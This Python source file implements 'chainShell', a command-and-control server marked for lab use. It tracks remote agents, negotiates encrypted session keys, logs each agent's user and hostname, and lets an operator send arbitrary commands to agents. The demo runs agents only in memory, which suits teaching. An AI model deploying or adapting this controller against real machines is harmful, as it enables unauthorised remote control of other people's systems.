#!/usr/bin/env python3
"""
chainShell Controller (C2 Server)
Educational use only — lab environments only.

Responsibilities:
- Consume agent events from the transport
- Track agent sessions
- Negotiate per-agent session keys
- Dispatch operator commands to agents
"""

import argparse
import json
import logging
import queue
import sys
import threading
import time
from typing import Callable, List, Optional

# Local modules
from . import crypto
from .config import ControllerConfig
from .dispatcher import OutboundDispatcher
from .errors import DecryptError, ProtocolError, TransportError
from .pipeline import InboundPipeline
from .protocol import Command, MsgID
from .registry import Agent, AgentStatus, SessionRegistry
from .transport import MemoryLedger, Transport

logger = logging.getLogger(__name__)


class Controller:
    """
    Wires the registry, inbound pipeline and dispatcher to one transport.

    Two threads run while started: the inbound consumer, which feeds
    decoded commands into self.commands, and the command processor, which
    handles them. on_result(agent, command) is called for every RESULT or
    ERROR an agent sends back.
    """

    def __init__(self, transport: Transport, config: Optional[ControllerConfig] = None,
                 rsa_key=None, on_result: Optional[Callable[[Agent, Command], None]] = None):
        self.config = config or ControllerConfig()
        self.transport = transport
        self.registry = SessionRegistry(max_agents=self.config.max_agents,
                                        agent_ttl=self.config.agent_ttl,
                                        history_size=self.config.history_size)
        self.commands: "queue.Queue[Command]" = queue.Queue()
        self.pipeline = InboundPipeline(self.registry, sink=self.commands)
        self.dispatcher = OutboundDispatcher(self.registry, transport)
        self.on_result = on_result
        self.error: Optional[TransportError] = None

        # Generate our RSA key to allow agents to send their session keys
        self.crypto = rsa_key or crypto.generate_asymmetric_keys(self.config.rsa_bits)

        self._stop = threading.Event()
        self._threads: List[threading.Thread] = []

    @property
    def public_key(self) -> str:
        return crypto.export_public_key(self.crypto)

    @property
    def running(self) -> bool:
        return bool(self._threads) and not self._stop.is_set()

    def start(self):
        """Subscribe to the transport and start processing events."""
        if self._threads:
            raise RuntimeError("Controller already started")

        # Subscribe before returning so no event submitted after start() is missed
        events = self.transport.subscribe()
        self._stop.clear()
        self._threads = [
            threading.Thread(target=self._recv_loop, args=(events,),
                             name="chainshell-recv", daemon=True),
            threading.Thread(target=self._command_loop,
                             name="chainshell-commands", daemon=True),
        ]
        for thread in self._threads:
            thread.start()
        logger.info("Controller started")

    def stop(self, timeout: Optional[float] = None):
        """Signal both loops to exit and wait for them."""
        self._stop.set()
        for thread in self._threads:
            thread.join(timeout)
        self._threads = []
        logger.info("Controller stopped")

    def join(self, timeout: Optional[float] = None):
        """Wait for the inbound loop to end. Re-raises a fatal TransportError."""
        if self._threads:
            self._threads[0].join(timeout)
        if self.error is not None:
            raise self.error

    def _recv_loop(self, events):
        try:
            self.pipeline.run(events, self._stop)
        except TransportError as e:
            logger.error("Transport subscription failed: %s", e)
            self.error = e
            self._stop.set()

    def _command_loop(self):
        last_prune = time.monotonic()
        while not self._stop.is_set():
            try:
                command = self.commands.get(timeout=self.config.poll_interval)
            except queue.Empty:
                command = None

            if command is not None:
                try:
                    self.handle_command(command)
                except Exception:
                    logger.exception("Unhandled error processing message %d from %s",
                                     command.msg_id, command.agent_id)

            if self.config.agent_ttl is not None:
                now = time.monotonic()
                if now - last_prune >= self.config.agent_ttl:
                    self.registry.prune()
                    last_prune = now

    def handle_command(self, command: Command):
        """Process one decoded command from an agent."""
        agent = self.registry.lookup(command.agent_id)
        if agent is None:
            logger.warning("Command %d for unknown agent %s ignored",
                           command.msg_id, command.agent_id)
            return

        try:
            if command.msg_id == MsgID.HANDSHAKE:
                self._handle_handshake(agent, command)
            elif command.msg_id == MsgID.CHECKIN:
                self._handle_checkin(agent, command)
            elif command.msg_id in (MsgID.RESULT, MsgID.ERROR):
                agent.history.append(command)
                if self.on_result is not None:
                    self.on_result(agent, command)
            elif command.msg_id == MsgID.DISCONNECT:
                agent.advance(AgentStatus.CLOSED)
                logger.info("Agent %s requested disconnect", agent.agent_id)
            else:
                logger.warning("Unknown message type %d from %s",
                               command.msg_id, agent.agent_id)
        except (ProtocolError, ValueError) as e:
            logger.error("Failed to handle message %d from %s: %s",
                         command.msg_id, agent.agent_id, e)

    def _handle_handshake(self, agent: Agent, command: Command):
        if agent.session_key is not None or agent.status != AgentStatus.HANDSHAKE:
            logger.warning("Agent %s attempted a handshake in state %s",
                           agent.agent_id, agent.status.name)
            return

        try:
            session_key = crypto.asymmetric_decrypt(command.data, self.crypto)
        except DecryptError as e:
            logger.warning("Invalid handshake from %s: %s", agent.agent_id, e)
            return

        if len(session_key) != crypto.SESSION_KEY_SIZE:
            logger.warning("Invalid handshake from %s: %d-byte session key",
                           agent.agent_id, len(session_key))
            return

        with agent.lock:
            agent.set_session_key(session_key)
            agent.advance(AgentStatus.ACTIVE)

        logger.info("Session key negotiated with %s", agent.agent_id)
        self.dispatcher.send(agent.agent_id, "ok", MsgID.HANDSHAKE)

    def _handle_checkin(self, agent: Agent, command: Command):
        try:
            metadata = json.loads(command.data)
        except ValueError as e:
            logger.warning("Invalid check-in from %s: %s", agent.agent_id, e)
            return
        if not isinstance(metadata, dict):
            logger.warning("Invalid check-in from %s: not an object", agent.agent_id)
            return

        agent.current_user = str(metadata.get("user", "unknown"))
        agent.hostname = str(metadata.get("hostname", "unknown"))
        logger.info("Agent %s checked in: %s@%s", agent.agent_id,
                    agent.current_user, agent.hostname)

    def execute(self, agent_id: str, cmd: str) -> int:
        """Ask an agent to run cmd. Returns the sequence number used."""
        return self.dispatcher.send(agent_id, cmd, MsgID.EXEC)

    def disconnect(self, agent_id: str) -> int:
        seq = self.dispatcher.send(agent_id, "", MsgID.DISCONNECT)
        agent = self.registry.lookup(agent_id)
        if agent is not None:
            agent.advance(AgentStatus.CLOSED)
        return seq


class Shell:
    """Interactive operator CLI."""

    def __init__(self, controller: Controller):
        self.controller = controller
        self.current: Optional[str] = None

    def run(self):
        while self.controller.running:
            prompt = "chainshell> "
            if self.current:
                agent = self.controller.registry.lookup(self.current)
                host = agent.hostname if agent and agent.hostname else self.current[:8]
                user = agent.current_user if agent and agent.current_user else "?"
                prompt = f"chainshell [{host}:{user}]> "

            try:
                cmd = input(prompt).strip()
            except EOFError:
                break
            except KeyboardInterrupt:
                print("\n[i] Use 'exit' to quit.")
                continue

            if not cmd:
                continue
            if cmd in ("exit", "quit"):
                break

            try:
                self.dispatch(cmd)
            except ProtocolError as e:
                print(f"[!] {e}", file=sys.stderr)

    def dispatch(self, cmd: str):
        if cmd == "help":
            self.show_help()
        elif cmd == "agents":
            self.list_agents()
        elif cmd.startswith("use "):
            self.use(cmd[4:].strip())
        elif cmd == "info":
            agent = self._selected()
            if agent:
                self.show_agent_info(agent)
        elif cmd == "disconnect":
            agent = self._selected()
            if agent:
                self.controller.disconnect(agent.agent_id)
                print(f"[i] Disconnect sent to {agent.agent_id}")
                self.current = None
        elif cmd.startswith("exec "):
            # Explicit exec required for safety
            real_cmd = cmd[5:].strip()
            if not real_cmd:
                print("[!] Usage: exec <command>")
                return
            agent = self._selected()
            if agent:
                seq = self.controller.execute(agent.agent_id, real_cmd)
                print(f"[+] Queued as seq {seq}")
        else:
            print("[!] Unknown command. Type 'help' for options.")

    def use(self, prefix: str):
        matches = [a for a in self.controller.registry.list_all()
                   if a.agent_id.startswith(prefix)]
        if len(matches) != 1:
            print(f"[!] {len(matches)} agents match '{prefix}'")
            return
        self.current = matches[0].agent_id
        print(f"[+] Using agent {self.current}")

    def _selected(self) -> Optional[Agent]:
        if not self.current:
            print("[!] No agent selected. Use 'use <id>'.")
            return None
        agent = self.controller.registry.lookup(self.current)
        if agent is None:
            print("[!] Selected agent is gone.")
            self.current = None
        return agent

    def list_agents(self):
        agents = self.controller.registry.list_all()
        if not agents:
            print("[i] No agents yet.")
            return
        for agent in agents:
            print(f"  {agent.agent_id}  {agent.status.name:<9}  "
                  f"{agent.current_user or '?'}@{agent.hostname or '?'}  "
                  f"last seen {agent.last_seen.strftime('%Y-%m-%d %H:%M:%S')}")

    def show_agent_info(self, agent: Agent):
        """Display agent metadata."""
        print("\n=== Agent Info ===")
        print(f"ID:       {agent.agent_id}")
        print(f"Status:   {agent.status.name}")
        print(f"LastSeen: {agent.last_seen.strftime('%Y-%m-%d %H:%M:%S')}")
        print(f"Hostname: {agent.hostname or 'N/A'}")
        print(f"User:     {agent.current_user or 'N/A'}")
        print(f"InSeq:    {agent.in_seq}")
        print(f"OutSeq:   {agent.out_seq}")
        print(f"Key:      {'negotiated' if agent.session_key else 'none'}")
        print("==================\n")

    def show_help(self):
        """Show help text."""
        print("""
chainShell Controller Commands:
  agents        List known agents
  use <id>      Select an agent by ID prefix
  exec <cmd>    Execute command on agent (e.g., 'exec pwd')
  info          Show agent metadata
  disconnect    Tell the selected agent to exit
  exit / quit   Stop the controller
  help          Show this help

Note: All commands require explicit 'exec' prefix for safety.
""")


def print_result(agent: Agent, command: Command):
    """Print a RESULT or ERROR reply from an agent."""
    if command.msg_id == MsgID.ERROR:
        print(f"\n[!] Agent {agent.agent_id[:8]} error: {command.data}", file=sys.stderr)
        return

    try:
        result = json.loads(command.data)
    except ValueError:
        print(f"\n[?] Unreadable result from {agent.agent_id[:8]}", file=sys.stderr)
        return
    if not isinstance(result, dict):
        print(f"\n[?] Unreadable result from {agent.agent_id[:8]}", file=sys.stderr)
        return

    stdout = result.get("stdout", "")
    stderr = result.get("stderr", "")
    exit_code = result.get("exit_code", -1)
    print()
    if stdout:
        print(stdout)
    if stderr:
        print(stderr, file=sys.stderr)
    if exit_code != 0:
        print(f"[!] Exit code: {exit_code}", file=sys.stderr)


def main():
    parser = argparse.ArgumentParser(description="chainShell Controller (C2 Server) — Educational Use Only")
    parser.add_argument("--rsa-bits", type=int, default=2048,
                        help="Size of the controller RSA key (default: 2048)")
    parser.add_argument("--max-agents", type=int, default=None,
                        help="Evict the least recently seen agent beyond this many")
    parser.add_argument("--agent-ttl", type=float, default=None,
                        help="Forget agents not seen for this many seconds")
    parser.add_argument("--nonce", type=int, default=0,
                        help="Initial transport nonce (default: 0)")
    parser.add_argument("--agents", "-a", type=int, default=1,
                        help="Lab agents to run on the in-memory ledger (default: 1)")
    parser.add_argument("--verbose", "-v", action="store_true",
                        help="Enable debug logging")

    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")

    try:
        config = ControllerConfig.from_args(args)
    except ValueError as e:
        print(f"[!] Invalid configuration: {e}", file=sys.stderr)
        sys.exit(1)

    print("[i] chainShell Controller v0.1 (edu)")
    print("[i] For authorized lab use only.\n")

    # Lab agents live in this process; imported here to keep the library free of them
    from agent.agent import Agent as LabAgent, new_agent_id

    ledger = MemoryLedger(poll_interval=config.poll_interval)
    controller = Controller(ledger.server_transport(config.initial_nonce),
                            config=config, on_result=print_result)
    controller.start()

    lab_agents = []
    for _ in range(args.agents):
        agent_id = new_agent_id()
        lab_agent = LabAgent(ledger.agent_transport(agent_id), controller.public_key,
                             agent_id=agent_id)
        lab_agent.start()
        lab_agents.append(lab_agent)
    print(f"[+] {len(lab_agents)} lab agent(s) started. Type 'agents' to list them.")

    try:
        Shell(controller).run()
    finally:
        print("[i] Shutting down controller...")
        for lab_agent in lab_agents:
            lab_agent.stop()
        controller.stop()


if __name__ == "__main__":
    main()
